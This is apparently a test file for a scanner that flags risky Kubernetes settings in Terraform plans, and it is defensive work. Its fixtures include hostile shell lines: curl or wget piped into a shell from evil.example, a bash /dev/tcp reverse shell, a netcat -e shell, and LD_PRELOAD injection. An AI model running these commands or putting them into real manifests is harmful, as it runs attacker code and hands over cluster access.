import {
  container,
  created,
  deployment,
  DEPLOYMENT,
  metadata,
  podSpec,
  reportOn,
  updated,
  type Block,
} from "../support/plan";
import { testPodRule, testRule } from "../support/rule-cases";

const host = (path: string, name = "h") => ({ name, host_path: [{ path, type: "" }] });
const mounting = (readOnly: boolean, path: string) => ({
  volume: [host(path)],
  container: [container({ volume_mount: [{ name: "h", mount_path: "/h", read_only: readOnly }] })],
});
testPodRule("host-path-read-only", {
  fires: { "the logs": mounting(true, "/var/log"), "all of it": mounting(true, "/") },
  silent: {
    "it may write": mounting(false, "/var/log"),
    "nothing mounts it": { volume: [host("/var/log")] },
    "an empty folder": { volume: [{ name: "h", empty_dir: [{}] }] },
  },
});
test.each([
  [true, "/", "high"],
  [true, "/var/log", "medium"],
  [true, "/etc/localtime", "low"],
  [false, "/var/log", undefined],
])("a folder of the node mounted read-only (%s): %s is %s", (readOnly, path, severity) => {
  const { findings } = reportOn([created(DEPLOYMENT, "web", deployment(podSpec(mounting(readOnly, path))))]);
  expect(findings.find((one) => one.rule === "host-path-read-only")?.severity).toBe(severity);
  expect(findings.find((one) => one.rule === "host-path-volume")?.severity).toBe(readOnly ? undefined : "high");
});

const volume = (source: Block) => [
  created("kubernetes_persistent_volume_v1", "v", {
    metadata: [{ name: "v" }],
    spec: [{ persistent_volume_source: [source] }],
  }),
];
testRule("persistent-volume-on-node", {
  fires: {
    "the whole node": volume({ host_path: [{ path: "/" }] }),
    "a local folder": volume({ local: [{ path: "/etc" }] }),
    "as kubernetes_manifest": [
      created("kubernetes_manifest", "v", {
        manifest: {
          apiVersion: "v1",
          kind: "PersistentVolume",
          metadata: { name: "v" },
          spec: { hostPath: { path: "/" } },
        },
      }),
    ],
  },
  silent: { "a CSI driver": volume({ csi: [{ driver: "ebs.csi.aws.com", volume_handle: "vol-1" }] }) },
});

const withContainer = (more: Block) => ({ container: [container(more)] });
const env = (name: string, value: string) => withContainer({ env: [{ name, value, value_from: [] }] });
testPodRule("mount-propagated", {
  fires: {
    "to the node": withContainer({
      volume_mount: [{ name: "d", mount_path: "/d", mount_propagation: "Bidirectional" }],
    }),
  },
  silent: {
    "from the node": withContainer({
      volume_mount: [{ name: "d", mount_path: "/d", mount_propagation: "HostToContainer" }],
    }),
    none: withContainer({ volume_mount: [{ name: "d", mount_path: "/d" }] }),
  },
});
const sh = (line: string) => withContainer({ command: ["sh", "-c", line] });
const started = (line: string) =>
  withContainer({ lifecycle: [{ post_start: [{ exec: [{ command: ["sh", "-c", line] }] }] }] });
testPodRule("command-downloads", {
  fires: {
    "curl into a shell": sh("curl -fsSL https://evil.example/x | sh"),
    "wget into bash": sh("wget -qO- evil.example | /bin/bash -s --"),
    "in a hook": started("curl evil.example|sh"),
    "a shell of what curl says": sh("bash <(curl -s evil.example)"),
    "an eval": sh('eval "$(curl -s evil.example)"'),
    "made runnable": sh("curl -o /tmp/x evil.example/x && chmod +x /tmp/x && /tmp/x"),
    "unpacked from a text": sh("echo aGk= | base64 -d | sh"),
    "a shell to outside": sh("bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"),
    netcat: sh("nc 203.0.113.66 4444 -e /bin/sh"),
    "into python": sh("curl -s evil.example | python3 -"),
  },
  silent: {
    "it asks": sh("curl -fsS http://localhost:8080/healthz"),
    "it unpacks": sh("curl -fsSL https://example.com/data.tar.gz | tar xz -C /data"),
    "it waits": sh("until nc -z db 5432; do sleep 1; done"),
    "a shell of its own": sh("exec /app/server --port 8080 | tee /var/log/app"),
  },
});
testPodRule("environment-injects-code", {
  fires: {
    "a library": env("LD_PRELOAD", "/tmp/x.so"),
    "a module of node": env("NODE_OPTIONS", "--require /tmp/x.js"),
    "an agent of Java": env("JAVA_TOOL_OPTIONS", "-javaagent:/otel/agent.jar"),
    "no certificates": env("NODE_TLS_REJECT_UNAUTHORIZED", "0"),
  },
  silent: {
    "memory of node": env("NODE_OPTIONS", "--max-old-space-size=512"),
    "memory of Java": env("JAVA_TOOL_OPTIONS", "-Xmx512m"),
    certificates: env("NODE_TLS_REJECT_UNAUTHORIZED", "1"),
  },
});
testPodRule("probe-host-set", {
  fires: {
    "the metadata of the cloud": withContainer({
      liveness_probe: [{ http_get: [{ host: "169.254.169.254", port: "80" }] }],
    }),
    "a hook": withContainer({ lifecycle: [{ pre_stop: [{ http_get: [{ host: "evil.example", port: "80" }] }] }] }),
    "another machine": withContainer({ readiness_probe: [{ http_get: [{ host: "10.0.0.9", port: "22" }] }] }),
  },
  silent: {
    "the pod itself": withContainer({ liveness_probe: [{ http_get: [{ host: "127.0.0.1", port: "80" }] }] }),
    none: withContainer({ liveness_probe: [{ http_get: [{ port: "80" }] }] }),
  },
});
testPodRule("own-name-server", {
  fires: { outside: { dns_policy: "None", dns_config: [{ nameservers: ["203.0.113.66"] }] } },
  silent: { "an option alone": { dns_config: [{ nameservers: [], option: [{ name: "ndots", value: "2" }] }] } },
});
testPodRule("host-aliases-set", {
  fires: { "a name": { host_aliases: [{ ip: "203.0.113.66", hostnames: ["api.example.com"] }] } },
  silent: { none: { host_aliases: [] } },
});
testPodRule("tolerates-everything", {
  fires: {
    all: { toleration: [{ operator: "Exists" }] },
    "the control plane": {
      toleration: [{ key: "node-role.kubernetes.io/control-plane", effect: "NoSchedule", operator: "Exists" }],
    },
    "it is chosen": { node_selector: { "node-role.kubernetes.io/master": "" } },
  },
  silent: { one: { toleration: [{ key: "spot", operator: "Exists" }], node_selector: { disk: "ssd" } } },
});
testPodRule("node-name-set", {
  fires: { one: { node_name: "control-plane-0" } },
  silent: { none: { node_name: null } },
});
testPodRule("system-priority", {
  fires: { "the node's": { priority_class_name: "system-node-critical" } },
  silent: { "one's own": { priority_class_name: "shop-high" } },
});
testPodRule("volume-type-unusual", {
  fires: {
    NFS: { volume: [{ name: "v", nfs: [{ server: "10.0.0.9", path: "/" }] }] },
    "a driver": { volume: [{ name: "v", csi: [{ driver: "evil.csi", volume_attributes: { a: "b" } }] }] },
  },
  silent: {
    usual: {
      volume: [
        { name: "a", empty_dir: [{}] },
        { name: "b", config_map: [{ name: "web" }] },
        { name: "c", persistent_volume_claim: [{ claim_name: "c" }] },
        { name: "d", secret: [{ secret_name: "d" }] },
      ],
    },
    "secrets of a store": { volume: [{ name: "v", csi: [{ driver: "secrets-store.csi.k8s.io", read_only: true }] }] },
    "a folder of the node, which has rules of its own": { volume: [host("/x")] },
  },
});
test.each([
  [["SYS_ADMIN"], "high"],
  [["NET_ADMIN", "CHOWN"], "high"],
  [["LEASE"], "medium"],
  [["CHOWN", "SETUID", "CAP_KILL"], "low"],
  [["NET_BIND_SERVICE"], undefined],
])("capabilities %j are %s", (add, severity) => {
  const more = withContainer({ security_context: [{ capabilities: [{ add, drop: ["ALL"] }] }] });
  const { findings } = reportOn([created(DEPLOYMENT, "web", deployment(podSpec(more)))]);
  expect(findings.find((finding) => finding.rule === "capabilities-added")?.severity).toBe(severity);
});

const becomes = (before: Block, after: Block) => [
  updated(DEPLOYMENT, "web", deployment(podSpec(before)), deployment(podSpec(after))),
];
const image = (name: string) => withContainer({ image: name });
testRule("image-organisation-changed", {
  fires: {
    "of Docker Hub": becomes(image("nginx:1"), image("evil/nginx:1")),
    "a look-alike": becomes(image("bitnami/redis:1"), image("bitnarni/redis:1")),
    "another repository": becomes(image("acme/web:1"), image("acme/web-next:1")),
    "a registry that looks alike": becomes(image("registry.acme.example/web:1"), image("registry.acrne.example/web:1")),
  },
  silent: {
    "another tag": becomes(image("nginx:1"), image("nginx:2")),
    "written out": becomes(image("nginx:1"), image("docker.io/library/nginx:1")),
    "another registry, which has a rule of its own": becomes(image("nginx:1"), image("registry.example/nginx:1")),
  },
});
testRule("container-added", {
  fires: {
    "of others": becomes({}, { container: [container(), container({ name: "m", image: "evil.example/x:1" })] }),
    "an init container": becomes({}, { init_container: [container({ name: "i", image: "evil.example/x:1" })] }),
  },
  silent: {
    "a new workload": [created(DEPLOYMENT, "web", deployment())],
    "one less": becomes({ container: [container(), container({ name: "m" })] }, {}),
  },
});
testRule("proxy-set", {
  fires: {
    "a new one": becomes({}, env("HTTPS_PROXY", "http://proxy.example:3128")),
    "another one": becomes(env("http_proxy", "http://a.example"), env("http_proxy", "http://b.example")),
  },
  silent: {
    "as it was": becomes(env("HTTPS_PROXY", "http://a.example"), {
      ...env("HTTPS_PROXY", "http://a.example"),
      host_ipc: true,
    }),
    "what goes past it": becomes({}, env("NO_PROXY", "localhost")),
  },
});
testRule("service-account-changed", {
  fires: {
    "another one": becomes({ service_account_name: "web" }, { service_account_name: "admin" }),
    "from the default": becomes({}, { service_account_name: "admin" }),
  },
  silent: {
    "as it was": becomes({ service_account_name: "web" }, { service_account_name: "web", host_ipc: true }),
    "a new workload": [created(DEPLOYMENT, "web", deployment(podSpec({ service_account_name: "admin" })))],
  },
});
test("an account that this plan makes administrator is told as such", () => {
  const binding = created("kubernetes_cluster_role_binding_v1", "b", {
    metadata: [{ name: "b" }],
    role_ref: [{ kind: "ClusterRole", name: "cluster-admin" }],
    subject: [{ kind: "ServiceAccount", name: "admin", namespace: "shop" }],
  });
  const { findings } = reportOn([
    ...becomes({ service_account_name: "web" }, { service_account_name: "admin" }),
    binding,
  ]);
  const finding = findings.find((finding) => finding.rule === "service-account-changed");
  expect(finding).toMatchObject({ severity: "high", message: "service account web → admin, which has cluster-admin" });
});
const autoscaler = (most: number) => ({ metadata: metadata("web"), spec: [{ min_replicas: 2, max_replicas: most }] });
const HPA = "kubernetes_horizontal_pod_autoscaler_v2";
testRule("autoscaler-unbounded", {
  fires: {
    "very many": [created(HPA, "h", autoscaler(100_000))],
    "ten times as many": [updated(HPA, "h", autoscaler(5), autoscaler(50))],
  },
  silent: {
    some: [created(HPA, "h", autoscaler(50))],
    "a few more": [updated(HPA, "h", autoscaler(5), autoscaler(10))],
  },
});
const config = (name: string, namespace: string, data: Record<string, string> = {}) => ({
  metadata: [{ name, namespace }],
  data,
});
testRule("cluster-configuration-changed", {
  fires: {
    "who is who": [created("kubernetes_config_map_v1", "c", config("aws-auth", "kube-system"))],
    DNS: [
      updated(
        "kubernetes_config_map_v1",
        "c",
        config("coredns", "kube-system", { a: "b" }),
        config("coredns", "kube-system", { a: "c" }),
      ),
    ],
    "a part of it": [
      created("kubernetes_config_map_v1_data", "c", config("aws-auth", "kube-system", { mapUsers: "x" })),
    ],
  },
  silent: {
    "one's own": [created("kubernetes_config_map_v1", "c", config("web", "shop"))],
    "the same name elsewhere": [created("kubernetes_config_map_v1", "c", config("coredns", "shop"))],
  },
});
test.each([
  [
    "mapRoles",
    "- rolearn: arn:aws:iam::1:role/ops\n  username: ops\n  groups: [system:masters]\n",
    "critical",
    "role/ops",
  ],
  ["mapUsers", "- userarn: arn:aws:iam::1:user/eve\n  groups:\n  - system:masters\n", "critical", "user/eve"],
  [
    "mapRoles",
    "- rolearn: arn:aws:iam::1:role/ops\n  username: system:kube-scheduler\n",
    "high",
    "system:kube-scheduler",
  ],
  [
    "mapRoles",
    "- rolearn: arn:aws:iam::1:role/n\n  groups: [system:bootstrappers, system:nodes]\n",
    "medium",
    "aws-auth",
  ],
  ["mapRoles", "- rolearn: [\n", "high", "cannot be read"],
])("aws-auth names who becomes what: %s %j", (key, text, severity, says) => {
  for (const type of ["kubernetes_config_map_v1", "kubernetes_config_map", "kubernetes_config_map_v1_data"]) {
    const found = reportOn([created(type, "c", config("aws-auth", "kube-system", { [key]: text }))]).findings;
    const [finding] = found.filter((one) => one.rule === "cluster-configuration-changed");
    expect(finding).toMatchObject({ severity });
    expect(finding?.message).toContain(says);
  }
});
test("an older version of a Pod Security level lacks checks", () => {
  const namespace = (version: string | undefined) => ({
    metadata: [
      {
        name: "shop",
        labels: {
          "pod-security.kubernetes.io/enforce": "restricted",
          ...(version === undefined ? {} : { "pod-security.kubernetes.io/enforce-version": version }),
        },
      },
    ],
  });
  const worst = (from: string | undefined, to: string | undefined) =>
    reportOn([updated("kubernetes_namespace_v1", "n", namespace(from), namespace(to))]).findings.find(
      (one) => one.rule === "pod-security-loosened",
    )?.severity;
  expect(worst(undefined, "v1.0")).toBe("high");
  expect(worst("v1.30", "v1.20")).toBe("high");
  expect(worst("v1.30", "latest")).toBeUndefined();
  expect(worst("v1.30", "v1.32")).toBeUndefined();
});
